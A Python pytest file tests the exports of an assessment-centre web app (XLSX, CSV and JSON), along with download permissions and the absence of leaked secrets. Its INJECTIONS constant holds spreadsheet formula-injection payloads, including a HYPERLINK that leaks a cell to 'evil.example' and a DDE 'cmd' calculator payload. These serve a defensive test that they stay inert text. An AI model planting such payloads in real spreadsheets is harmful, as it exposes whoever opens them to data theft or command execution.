"""Exports of a finished session: the workbook, its sheets as CSV, the whole session as JSON,
who may download them, and text that must never run as a formula."""

from __future__ import annotations

import csv
import gc
import io
import json
import re
from collections import Counter
from typing import Any

import pytest
import redis
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from facilitator.domain.review import DecisionOutcome
from facilitator.realtime.connection import DEVICE_COOKIE
from facilitator.store import keys
from facilitator.store import sessions as session_store
from facilitator.store import users as user_store

from .builders import SessionBuilder
from .conftest import PASSWORD, make_user
from .panel_helpers import running_panel
from .review_helpers import SCORES, Finished, finished_session

ISO = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")
CLOCK = re.compile(r"^\d\d:\d\d$")
SHEETS = ("summary", "observations", "ratings", "session")
INJECTIONS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd")


@pytest.fixture
def finished(client: FlaskClient, r: redis.Redis, api_token: str) -> Finished:
    return finished_session(client, r, api_token)


def sign_in(app: Flask, email: str) -> FlaskClient:
    """A fresh client signed in as this staff member."""
    browser = app.test_client()
    assert browser.post("/login", data={"email": email, "password": PASSWORD}).status_code == 302
    return browser


def workbook(response: Any) -> Any:
    assert response.status_code == 200, response.get_data(as_text=True)
    return load_workbook(io.BytesIO(response.data))


def rows(sheet: Worksheet) -> list[dict[str, Any]]:
    """A sheet's rows as dicts keyed by its header."""
    header, *body = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in body]


def same(value: Any) -> str:
    """A cell as text, so that a workbook's 3 and a CSV's "3.0" compare equal."""
    if value is None:
        return ""
    try:
        return repr(float(value))
    except ValueError:
        return str(value)


def other_session_with_a_draft(client: FlaskClient, api_token: str, finished: Finished) -> str:
    """A second session, rated by Alex as a draft only, with an observation of its own."""
    build = SessionBuilder(client, api_token).create()
    sid = build.session_id
    build.call("post", f"/sessions/{sid}/panel", {"user_id": finished.panel.a_id}, expect=201)
    build.state("open")
    candidate = build.join("Other Person")["candidate_id"]
    build.state("live")
    exercise = build.exercises()[0]["id"]
    build.call("post", f"/sessions/{sid}/exercises/{exercise}/start", expect=200)
    alex = finished.observer(0)
    note = {
        "id": "obs-other-session-01",
        "exercise_id": exercise,
        "candidate_id": candidate,
        "note": "Elsewhere",
    }
    alex.call("post", f"/sessions/{sid}/observations", note, expect=201)
    build.call("post", f"/sessions/{sid}/exercises/{exercise}/end", expect=200)
    draft = {"scores": {"teamwork": {"score": 1, "evidence": "A draft nobody else sees"}}}
    alex.call("put", f"/sessions/{sid}/ratings/{exercise}/{candidate}", draft, expect=200)
    return sid


def deleted_observation(finished: Finished) -> str:
    """An observation recorded after the exercise ended (within the grace period), then deleted."""
    body = {
        "id": "obs-deleted-afterwards",
        "exercise_id": finished.exercise_ids[1],
        "candidate_id": finished.candidate_ids[0],
        "note": "Wrong candidate, deleted",
    }
    path = f"/sessions/{finished.sid}/observations"
    finished.observer(1).call("post", path, body, expect=201)
    finished.observer(1).call("delete", f"{path}/{body['id']}", expect=200)
    return body["id"]


def expected_scores(finished: Finished) -> Counter[tuple[str, str, str, str, int]]:
    """(candidate, exercise, observer, competency, score) of every submitted score, from SCORES."""
    titles = [e["title"] for e in finished.build.exercises()]
    found: Counter[tuple[str, str, str, str, int]] = Counter()
    for (candidate, exercise, observer), scores in SCORES.items():
        for competency, score in scores.items():
            found[
                (
                    f"Candidate {candidate}",
                    titles[exercise],
                    ("Alex", "Blair")[observer],
                    competency.title(),
                    score,
                )
            ] += 1
    return found


def test_workbook_holds_every_rating_and_observation_and_nothing_else(
    client: FlaskClient, signed_in: FlaskClient, api_token: str, finished: Finished
) -> None:
    deleted = deleted_observation(finished)
    other = other_session_with_a_draft(client, api_token, finished)
    finished.start_review()
    response = signed_in.get(f"/sessions/{finished.sid}/export.xlsx")
    book = workbook(response)
    assert book.sheetnames == ["Summary", "Observations", "Ratings", "Session"]

    observations = rows(book["Observations"])
    assert {o["Observation id"] for o in observations} == {o["id"] for o in finished.observations}
    assert len(observations) == 8 and deleted not in {o["Observation id"] for o in observations}
    seeded = {o["id"]: o for o in finished.observations}
    for row in observations:
        assert row["Note"] == seeded[row["Observation id"]]["note"]
        assert row["Observer"] in ("Alex", "Blair") and row["Polarity"] in ("+", "-")
        assert CLOCK.match(row["Clock"]) and ISO.match(row["Recorded at"])

    ratings = rows(book["Ratings"])
    assert len(ratings) == 16
    assert Counter(
        (r["Candidate"], r["Exercise"], r["Observer"], r["Competency"], r["Score"]) for r in ratings
    ) == expected_scores(finished)
    assert all(ISO.match(r["Submitted at"]) and r["Evidence"].startswith("Seen in exercise") for r in ratings)

    text = " ".join(
        str(c) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row
    )
    assert "Other Person" not in text and "Elsewhere" not in text and "A draft nobody else sees" not in text
    assert other not in text


def test_summary_sheet_has_means_per_exercise_and_across_them(
    signed_in: FlaskClient, finished: Finished
) -> None:
    summary = rows(workbook(signed_in.get(f"/sessions/{finished.sid}/export.xlsx"))["Summary"])
    titles = [e["title"] for e in finished.build.exercises()]
    assert [(s["Candidate"], s["Competency"]) for s in summary] == [
        (f"Candidate {n}", c)
        for n in range(2)
        for c in ("Teamwork", "Communication", "Leadership and influence")
    ]
    first = summary[0]  # Candidate 0, teamwork: 4 and 2 in the first exercise, 4 and 4 in the second
    assert (first[f"{titles[0]}: mean"], first[f"{titles[1]}: mean"]) == (3, 4)
    assert first["Independent mean (across exercises, weighted)"] == 3.5
    leadership = summary[2]  # assessed by neither exercise
    assert leadership["Independent mean (across exercises, weighted)"] is None
    assert summary[1]["Email"] is None and first["Decision"] is None


def test_summary_sheet_shows_the_consensus_and_the_decision(
    r: redis.Redis, signed_in: FlaskClient, facilitator_user: user_store.StaffUser, finished: Finished
) -> None:
    from facilitator.domain.commands import RecordConsensus, RecordDecision
    from facilitator.services import review

    finished.start_review()
    candidate = finished.candidate_ids[1]
    agreed = RecordConsensus(
        id="consensus-1", candidate_id=candidate, competency_id="teamwork", score=3, note="Agreed after talk"
    )
    review.record_consensus(r, facilitator_user, finished.sid, agreed)
    decided = RecordDecision(
        id="decision-1", candidate_id=candidate, outcome=DecisionOutcome.NEXT_ROUND, rationale="Strong"
    )
    review.record_decision(r, facilitator_user, finished.sid, decided)
    summary = rows(workbook(signed_in.get(f"/sessions/{finished.sid}/export.xlsx"))["Summary"])
    teamwork = next(s for s in summary if s["Candidate"] == "Candidate 1" and s["Competency"] == "Teamwork")
    assert (teamwork["Consensus score"], teamwork["Consensus note"]) == (3, "Agreed after talk")
    assert (teamwork["Decision"], teamwork["Rationale"], teamwork["Decided by"]) == (
        "Next round",
        "Strong",
        "Fran",
    )
    assert ISO.match(teamwork["Decided at"])


def test_workbook_header_is_bold_and_frozen(signed_in: FlaskClient, finished: Finished) -> None:
    response = signed_in.get(f"/sessions/{finished.sid}/export.xlsx")
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"] == "attachment; filename=graduate-assessment-centre.xlsx"
    assert response.headers["Cache-Control"] == "no-store"
    for sheet in workbook(response).worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.b for cell in sheet[1])
        assert sheet.column_dimensions["A"].width >= 20


def test_csv_sheets_match_the_workbook(signed_in: FlaskClient, finished: Finished) -> None:
    book = workbook(signed_in.get(f"/sessions/{finished.sid}/export.xlsx"))
    for key, title in zip(SHEETS, book.sheetnames, strict=True):
        response = signed_in.get(f"/sessions/{finished.sid}/export.csv?sheet={key}")
        assert response.status_code == 200 and response.mimetype == "text/csv"
        assert response.headers["Content-Disposition"].endswith(f"graduate-assessment-centre-{key}.csv")
        assert response.data.startswith(b"\xef\xbb\xbf")
        parsed = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
        from_book = [[same(c) for c in row] for row in book[title].iter_rows(values_only=True)]
        assert [[same(c) for c in row] for row in parsed] == from_book


def test_csv_needs_a_known_sheet(signed_in: FlaskClient, finished: Finished) -> None:
    for query in ("", "?sheet=secrets"):
        refused = signed_in.get(f"/sessions/{finished.sid}/export.csv{query}")
        assert refused.status_code == 400
        assert "summary, observations, ratings or session" in refused.get_data(as_text=True)


def test_text_that_looks_like_a_formula_stays_text(signed_in: FlaskClient, finished: Finished) -> None:
    for number, note in enumerate(INJECTIONS):
        body = {
            "id": f"obs-injection-{number:04d}",
            "exercise_id": finished.exercise_ids[1],
            "candidate_id": finished.candidate_ids[0],
            "note": note,
        }
        finished.observer(0).call("post", f"/sessions/{finished.sid}/observations", body, expect=201)
    sheet = workbook(signed_in.get(f"/sessions/{finished.sid}/export.xlsx"))["Observations"]
    notes = {cell.value: cell for cell in next(iter(sheet.iter_cols(min_col=9, max_col=9)))}
    for note in INJECTIONS:
        assert notes[note].data_type == "s" and notes[note].quotePrefix
    response = signed_in.get(f"/sessions/{finished.sid}/export.csv?sheet=observations")
    parsed = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    written = {row["Note"] for row in parsed}
    assert {"'" + note for note in INJECTIONS} <= written
    assert not any(note in written for note in INJECTIONS)


def test_control_characters_in_a_note_do_not_break_the_workbook(
    signed_in: FlaskClient, finished: Finished
) -> None:
    body = {
        "id": "obs-control-characters",
        "exercise_id": finished.exercise_ids[1],
        "candidate_id": finished.candidate_ids[0],
        "note": "Pasted from a PDF:\x07 a bell\x0b and a tab\tstay readable",
    }
    finished.observer(0).call("post", f"/sessions/{finished.sid}/observations", body, expect=201)
    notes = {
        o["Note"]
        for o in rows(workbook(signed_in.get(f"/sessions/{finished.sid}/export.xlsx"))["Observations"])
    }
    assert "Pasted from a PDF: a bell and a tab\tstay readable" in notes


def test_json_holds_the_whole_session_with_iso_times(signed_in: FlaskClient, finished: Finished) -> None:
    response = signed_in.get(f"/sessions/{finished.sid}/export.json")
    assert response.mimetype == "application/json"
    assert response.headers["Content-Disposition"] == "attachment; filename=graduate-assessment-centre.json"
    document = json.loads(response.data)
    assert document["session"]["title"] == "Graduate assessment centre"
    assert document["session"]["state_label"] == "ended"
    assert {o["id"] for o in document["observations"]} == {o["id"] for o in finished.observations}
    assert len(document["ratings"]) == 8 and all(r["status"] == "submitted" for r in document["ratings"])
    assert {c["id"] for c in document["candidates"]} == set(finished.candidate_ids)
    assert len(document["runs"]) == 2 and document["agreement"]["overall"]["ratings"] == 16
    assert set(document["people"].values()) == {"Alex", "Blair"}
    assert ISO.match(document["ratings"][0]["submitted_at"]) and ISO.match(document["session"]["created_at"])
    assert all(ISO.match(start) for run in document["runs"] for start, _ in run["segments"])


def test_json_holds_no_secrets(
    r: redis.Redis, client: FlaskClient, signed_in: FlaskClient, api_token: str, finished: Finished
) -> None:
    device_tokens = [p["token"] for p in finished.panel.people]
    # A draft session with invited candidates (personal links) and a panel invite link.
    build = SessionBuilder(client, api_token).create()
    invited = {"candidates": [{"name": "Ivy Invited", "email": "ivy@example.com"}]}
    build.call("post", f"/sessions/{build.session_id}/candidates", invited, expect=201)
    build.call("post", f"/sessions/{build.session_id}/panel/invites", expect=201)
    # The links themselves (derived) and what Redis keeps of them (nonce and hash).
    derived = session_store.invite_tokens(r, build.session_id, client.application.config["SECRET_KEY"])
    invite_tokens = [*derived.values(), *r.hvals(keys.candidate_secrets(build.session_id))]
    assert derived
    nonce = json.loads(str(r.get(keys.session(build.session_id))))["panel_invite_nonce"]
    password_hashes = [r.hget(keys.user(uid), "password") for uid in r.smembers(keys.users())]
    assert all(password_hashes)
    for sid, code, secrets in (
        (finished.sid, finished.build.join_code, device_tokens),
        (build.session_id, build.join_code, [*invite_tokens, nonce]),
    ):
        text = signed_in.get(f"/sessions/{sid}/export.json").get_data(as_text=True)
        for secret in (*secrets, *password_hashes, api_token, code):
            assert str(secret) not in text
        assert "password" not in text and "join_code" not in text


def test_a_reopened_rating_waits_out_of_the_sheets_until_resubmitted(
    r: redis.Redis, signed_in: FlaskClient, facilitator_user: user_store.StaffUser, finished: Finished
) -> None:
    from facilitator.domain.commands import ReopenRating
    from facilitator.services import review

    finished.start_review()
    exercise, candidate = finished.exercise_ids[0], finished.candidate_ids[0]
    reopen = ReopenRating(
        id="reopen-1",
        exercise_id=exercise,
        candidate_id=candidate,
        observer_id=finished.panel.b_id,
        reason="Scored the wrong person",
    )
    review.reopen_rating(r, facilitator_user, finished.sid, reopen)
    draft = {"scores": {"teamwork": {"score": 5, "evidence": "Changing my mind privately"}}}
    finished.observer(1).call(
        "put", f"/sessions/{finished.sid}/ratings/{exercise}/{candidate}", draft, expect=200
    )
    book = workbook(signed_in.get(f"/sessions/{finished.sid}/export.xlsx"))
    ratings = rows(book["Ratings"])
    assert len(ratings) == 14
    title = finished.build.exercises()[0]["title"]
    blair_on_candidate_0 = [
        r
        for r in ratings
        if (r["Observer"], r["Candidate"], r["Exercise"]) == ("Blair", "Candidate 0", title)
    ]
    assert blair_on_candidate_0 == []
    assert "Changing my mind privately" not in {r["Evidence"] for r in ratings}
    session = {row["Item"]: row["Value"] for row in rows(book["Session"])}
    assert session["Ratings reopened, not yet resubmitted"] == 1
    document = signed_in.get(f"/sessions/{finished.sid}/export.json").get_data(as_text=True)
    assert "Changing my mind privately" not in document
    reopened = next(x for x in json.loads(document)["ratings"] if x["status"] == "reopened")
    assert reopened["scores"] == {} and reopened["reopenings"][0]["scores"]["teamwork"]["score"] == 2


ROUTES = ("export.xlsx", "export.csv?sheet=ratings", "export.json")


def test_no_one_signed_out_downloads_anything(app: Flask, finished: Finished) -> None:
    anonymous = app.test_client()
    candidate = app.test_client()
    candidate.set_cookie(DEVICE_COOKIE.format(finished.sid), finished.panel.people[0]["token"])
    for browser in (anonymous, candidate):
        for route in ROUTES:
            response = browser.get(f"/sessions/{finished.sid}/{route}")
            assert response.status_code == 302 and "/login" in response.headers["Location"]
            assert b"Candidate 0" not in response.data


def test_an_observer_off_the_panel_finds_no_session(app: Flask, r: redis.Redis, finished: Finished) -> None:
    outsider = make_user(r, "casey@example.com", "observer")
    browser = sign_in(app, outsider.email)
    token = user_store.issue_api_token(r, outsider.id)
    for route in ROUTES:
        assert browser.get(f"/sessions/{finished.sid}/{route}").status_code == 404
        api = browser.get(
            f"/api/v1/sessions/{finished.sid}/{route}", headers={"Authorization": f"Bearer {token}"}
        )
        assert api.status_code == 404 and api.get_json()["error"]["code"] == "unknown_session"


def test_a_panel_member_owing_ratings_sees_nothing_until_they_rate(
    app: Flask, client: FlaskClient, r: redis.Redis, api_token: str
) -> None:
    panel = running_panel(client, r, api_token, candidates=2)
    panel.end()
    browser = sign_in(app, "alex@example.com")
    for route in ROUTES:
        refused = browser.get(f"/sessions/{panel.sid}/{route}")
        assert refused.status_code == 403 and "Submit the 2 ratings you still owe" in refused.get_data(
            as_text=True
        )
        assert (
            panel.a.call("get", f"/sessions/{panel.sid}/{route}", expect=403)["error"]["code"]
            == "ratings_owed"
        )


def test_the_garbage_collector_runs_again_after_every_export(
    app: Flask, r: redis.Redis, signed_in: FlaskClient, finished: Finished
) -> None:
    """Exports pause the cycle collector while they build; a refusal must not leave it off."""
    assert gc.isenabled()
    outsider = sign_in(app, make_user(r, "casey@example.com", "observer").email)
    for route in ROUTES:
        assert signed_in.get(f"/sessions/{finished.sid}/{route}").status_code == 200
        assert gc.isenabled(), route
        assert outsider.get(f"/sessions/{finished.sid}/{route}").status_code == 404
        assert gc.isenabled(), route


def test_a_panel_member_who_rated_everything_downloads(app: Flask, finished: Finished) -> None:
    browser = sign_in(app, "alex@example.com")
    assert len(rows(workbook(browser.get(f"/sessions/{finished.sid}/export.xlsx"))["Ratings"])) == 16
    api = finished.observer(1).http.get(
        f"/api/v1/sessions/{finished.sid}/export.csv?sheet=observations", headers=finished.observer(1).headers
    )
    assert (
        api.status_code == 200 and api.mimetype == "text/csv" and api.headers["Cache-Control"] == "no-store"
    )
    assert len(list(csv.reader(io.StringIO(api.data.decode("utf-8-sig"))))) == 9


def test_api_exports_match_the_pages(signed_in: FlaskClient, finished: Finished) -> None:
    headers = finished.build.headers
    for route in ROUTES:
        api = signed_in.get(f"/api/v1/sessions/{finished.sid}/{route}", headers=headers)
        page = signed_in.get(f"/sessions/{finished.sid}/{route}")
        assert api.status_code == 200 and api.mimetype == page.mimetype
        assert api.headers["Content-Disposition"] == page.headers["Content-Disposition"]
    refused = signed_in.get(f"/api/v1/sessions/{finished.sid}/export.csv?sheet=nope", headers=headers)
    assert refused.status_code == 400 and refused.get_json()["error"]["code"] == "unknown_sheet"
    assert signed_in.get(f"/api/v1/sessions/{finished.sid}/export.xlsx").status_code == 401


def test_openapi_describes_the_exports_with_their_content_types(client: FlaskClient) -> None:
    paths = client.get("/api/v1/openapi.json").get_json()["paths"]
    expected = {
        "export.xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "export.csv": "text/csv",
        "export.json": "application/json",
    }
    for name, media_type in expected.items():
        operation = paths[f"/api/v1/sessions/{{session_id}}/{name}"]["get"]
        assert list(operation["responses"]["200"]["content"]) == [media_type]
    csv_operation = paths["/api/v1/sessions/{session_id}/export.csv"]["get"]
    sheet = next(p for p in csv_operation["parameters"] if p["name"] == "sheet")
    assert sheet["in"] == "query" and sheet["required"] and sheet["schema"]["enum"] == list(SHEETS)
